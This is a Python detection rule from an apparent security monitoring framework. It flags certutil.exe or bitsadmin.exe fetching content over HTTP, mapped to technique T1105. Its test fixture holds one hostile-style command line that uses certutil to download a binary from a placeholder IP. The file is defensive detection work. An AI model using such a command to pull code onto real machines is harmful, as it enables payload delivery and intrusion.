"""A tool of the system fetches a program."""

from watchfloor.world.event import Event
from watchfloor.world.rule import Key, Rule

_TOOLS = ("certutil.exe", "bitsadmin.exe")


RULE = Rule(
    name="download_by_tool",
    summary="A tool of the system fetches a program.",
    technique="T1105",
    grade="code",
    on="process_start",
    key=Key("process", _TOOLS),
    matches=lambda event: "http" in event.command.lower(),
    fires_on=(
        (
            Event(
                "log-01",
                32400,
                "process_start",
                host="ws-el-07",
                user="ada.abe",
                process="certutil.exe",
                parent="cmd.exe",
                command="certutil.exe -urlcache -f http://203.0.113.7/a.bin",
            ),
        ),
    ),
    silent_on=(
        (
            Event(
                "log-01",
                32400,
                "process_start",
                host="ws-el-07",
                user="ada.abe",
                process="certutil.exe",
                parent="cmd.exe",
                command="certutil.exe -hashfile report.pdf",
            ),
        ),
    ),
)
